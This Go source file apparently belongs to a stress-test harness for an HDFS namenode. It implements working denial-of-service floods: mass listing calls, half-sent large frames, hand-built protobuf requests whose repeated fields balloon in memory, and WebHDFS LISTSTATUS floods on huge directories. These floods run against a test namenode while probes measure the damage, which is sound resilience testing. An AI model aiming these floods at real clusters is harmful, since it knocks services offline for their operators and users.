package main

import (
	"context"
	"fmt"
	"net"
	"net/url"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/sync/errgroup"

	"github.com/gohops/hops/namenode/hdfs/hadooppb"
)

// floodOrder is the order of all tasks that write to many connections and read nothing.
type floodOrder struct {
	Addr        string
	User        string
	Connections int
	// Calls on each connection, of listing or elements.
	Calls int
	// Path is listed.
	Path string
	// Bytes of a frame that are sent, and the Missing rest.
	Bytes, Missing int
	// Elements of a repeated field of Method's request.
	Method   string
	Elements int
}

// flood writes to n connections at once until ctx is done, again from the start over a new connection when one is dropped.
// Nothing is read, and the connections stay open at the end of what is written.
func flood(ctx context.Context, addr string, n int, write func(c net.Conn) error) (sent, error) {
	return connections(ctx, addr, n, 300*time.Millisecond, func(c *net.TCPConn, counted net.Conn) error {
		_ = c.SetReadBuffer(2048) // an attack that takes more is a weaker one, not a wrong one
		err := write(counted)
		if err == nil {
			awaitClose(ctx, c)
		}
		return err
	})
}

// connections keeps n connections open until ctx is done; one that is dropped is made again after a moment. use returns
// when its connection has failed.
func connections(ctx context.Context, addr string, n int, moment time.Duration, use func(c *net.TCPConn, counted net.Conn) error) (sent, error) {
	var total sent
	var bytes atomic.Int64
	var mu sync.Mutex
	var wait sync.WaitGroup
	for range n {
		wait.Go(func() {
			for again := false; ctx.Err() == nil; again = true {
				if again {
					mu.Lock()
					total.Dropped++
					mu.Unlock()
					pause(ctx, moment)
				}
				nc, err := (&net.Dialer{Timeout: 5 * time.Second}).DialContext(ctx, "tcp", addr)
				if err != nil {
					continue
				}
				c := nc.(*net.TCPConn)
				mu.Lock()
				total.Connections++
				mu.Unlock()
				stop := context.AfterFunc(ctx, func() { c.Close() })
				if err := use(c, &countingConn{Conn: c, bytes: &bytes}); err != nil && ctx.Err() == nil {
					mu.Lock()
					if total.Note == "" {
						total.Note = "attackers: " + err.Error()
					}
					mu.Unlock()
				}
				stop()
				c.Close()
			}
		})
	}
	wait.Wait()
	total.Bytes = bytes.Load()
	return total, nil
}

type countingConn struct {
	net.Conn
	bytes *atomic.Int64
}

func (c *countingConn) Write(p []byte) (int, error) {
	n, err := c.Conn.Write(p)
	c.bytes.Add(int64(n))
	return n, err
}

// awaitClose returns when the peer resets the connection or ctx is done, without reading anything: readable data says
// nothing, an error does.
func awaitClose(ctx context.Context, c net.Conn) {
	for ctx.Err() == nil {
		if peerGone(c) {
			return
		}
		pause(ctx, 200*time.Millisecond)
	}
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// floodListings asks for listings.
func floodListings(ctx context.Context, _ *part, o floodOrder) (sent, error) {
	return flood(ctx, o.Addr, o.Connections, func(c net.Conn) error {
		if _, err := c.Write(greeting(o.User)); err != nil {
			return err
		}
		var batch []byte
		for i := range o.Calls {
			batch = append(batch, callFrame(int32(i), "getListing", &hadooppb.GetListingRequestProto{
				Src: &o.Path, StartAfter: []byte{}, NeedLocation: new(bool),
			})...)
			if len(batch) > 16<<10 || i == o.Calls-1 {
				if _, err := c.Write(batch); err != nil {
					return err
				}
				batch = batch[:0]
			}
		}
		return nil
	})
}

// floodFrames sends the beginnings of large frames.
func floodFrames(ctx context.Context, _ *part, o floodOrder) (sent, error) {
	zeros := make([]byte, 64<<10)
	return flood(ctx, o.Addr, o.Connections, func(c net.Conn) error {
		head := append(greeting(o.User), rawFrame(0, "concat", nil, o.Bytes+o.Missing)...)
		if _, err := c.Write(head); err != nil {
			return err
		}
		for left := o.Bytes; left > 0; {
			n, err := c.Write(zeros[:min(left, len(zeros))])
			if err != nil {
				return err
			}
			left -= n
		}
		return nil
	})
}

// floodElements sends requests that are small on the wire and large once decoded: a repeated field of empty elements.
func floodElements(ctx context.Context, _ *part, o floodOrder) (sent, error) {
	var begin, element []byte
	switch o.Method {
	case "concat": // trg "/x", srcs ""
		begin, element = []byte{1<<3 | 2, 2, '/', 'x'}, []byte{2<<3 | 2, 0}
	case "addBlock": // src "/x", clientName "c", favoredNodes ""
		begin, element = []byte{1<<3 | 2, 2, '/', 'x', 2<<3 | 2, 1, 'c'}, []byte{6<<3 | 2, 0}
	case "create": // src, masked, clientName, createFlag, createParent, replication, blockSize, cryptoProtocolVersion 1
		begin, element = []byte{1<<3 | 2, 2, '/', 'x', 2<<3 | 2, 2, 1 << 3, 0, 3<<3 | 2, 1, 'c', 4 << 3, 1, 5 << 3, 1, 6 << 3, 1, 7 << 3, 0x80, 0x80, 0x40}, []byte{8 << 3, 1}
	default:
		return sent{}, fmt.Errorf("no request of %s is known", o.Method)
	}
	request := make([]byte, 0, len(begin)+2*o.Elements)
	request = append(request, begin...)
	for range o.Elements {
		request = append(request, element...)
	}
	call := rawFrame(0, o.Method, request, 0)
	return flood(ctx, o.Addr, o.Connections, func(c net.Conn) error {
		if _, err := c.Write(greeting(o.User)); err != nil {
			return err
		}
		for range o.Calls {
			if _, err := c.Write(call); err != nil {
				return err
			}
		}
		return nil
	})
}

// floodList asks for LISTSTATUS without a name.
func floodList(ctx context.Context, _ *part, o floodOrder) (sent, error) {
	return flood(ctx, o.Addr, o.Connections, func(c net.Conn) error {
		_, err := fmt.Fprintf(c, "GET /webhdfs/v1%s?op=LISTSTATUS HTTP/1.1\r\nHost: %s\r\n\r\n", (&url.URL{Path: o.Path}).EscapedPath(), o.Addr)
		return err
	})
}

// listings: a listing is a few bytes to ask for and 160 KB to answer.
func listings(connections, calls int) func(context.Context, *scene, *result) error {
	return func(ctx context.Context, s *scene, r *result) error {
		if err := s.fill(ctx, "/scene/listed", 1000); err != nil {
			return err
		}
		o := floodOrder{Addr: s.namenode(0).IPC, User: nameOf(attackerID), Connections: connections, Calls: calls, Path: "/scene/listed"}
		return s.siege(ctx, r, siege{
			target: "nn1", probes: []probe{s.stat(), s.newStat()}, attackers: []order{{"listings", o}},
			length: s.length(75 * time.Second), settle: s.settling(),
		})
	}
}

// frames: the server keeps what has come of a frame until its end comes.
func frames(connections, bytes, missing int) func(context.Context, *scene, *result) error {
	return func(ctx context.Context, s *scene, r *result) error {
		o := floodOrder{Addr: s.namenode(0).IPC, User: nameOf(attackerID), Connections: connections, Bytes: bytes, Missing: missing}
		return s.siege(ctx, r, siege{
			target: "nn1", probes: []probe{s.stat(), s.newStat()}, attackers: []order{{"frames", o}},
			length: s.length(20 * time.Second), settle: s.settling(),
		})
	}
}

// elements: an element of two bytes on the wire is one of 16 to 24 in memory.
func elements(connections, elements int) func(context.Context, *scene, *result) error {
	return func(ctx context.Context, s *scene, r *result) error {
		var attackers []order
		for i, method := range []string{"concat", "addBlock", "create"} {
			n := (connections + 2 - i) / 3
			attackers = append(attackers, order{"elements", floodOrder{
				Addr: s.namenode(0).IPC, User: nameOf(attackerID), Connections: n, Calls: 20, Method: method, Elements: elements,
			}})
		}
		return s.siege(ctx, r, siege{
			target: "nn1", probes: []probe{s.stat(), s.newStat()}, attackers: attackers,
			length: s.length(20 * time.Second), settle: s.settling(),
		})
	}
}

// listStatus: the answer to one line is the whole directory. With the directory of a million entries five requests do what
// 25 do with one of 200,000.
func listStatus(ctx context.Context, s *scene, r *result) error {
	entries := 200_000
	if s.h.long {
		entries = 1_000_000
	}
	if err := s.fill(ctx, "/scene/large", entries); err != nil {
		return err
	}
	o := floodOrder{Addr: s.namenode(0).HTTP, Connections: 5_000_000 / entries, Path: "/scene/large"}
	return s.siege(ctx, r, siege{
		target: "nn1", probes: []probe{s.stat(), s.webHDFS()}, attackers: []order{{"liststatus", o}},
		length: s.length(80 * time.Second), settle: s.settling(),
	})
}

// fill makes a directory with so many entries.
func (s *scene) fill(ctx context.Context, dir string, entries int) error {
	if err := s.fs.Mkdirs(ctx, dir, 0o755, true); err != nil {
		return err
	}
	g, ctx := errgroup.WithContext(ctx)
	const workers = 128
	for w := range workers {
		g.Go(func() error {
			for i := w; i < entries; i += workers {
				if err := s.fs.Mkdirs(ctx, fmt.Sprintf("%s/an-entry-with-a-name-of-some-length-%07d", dir, i), 0o755, false); err != nil {
					return err
				}
			}
			return nil
		})
	}
	return g.Wait()
}
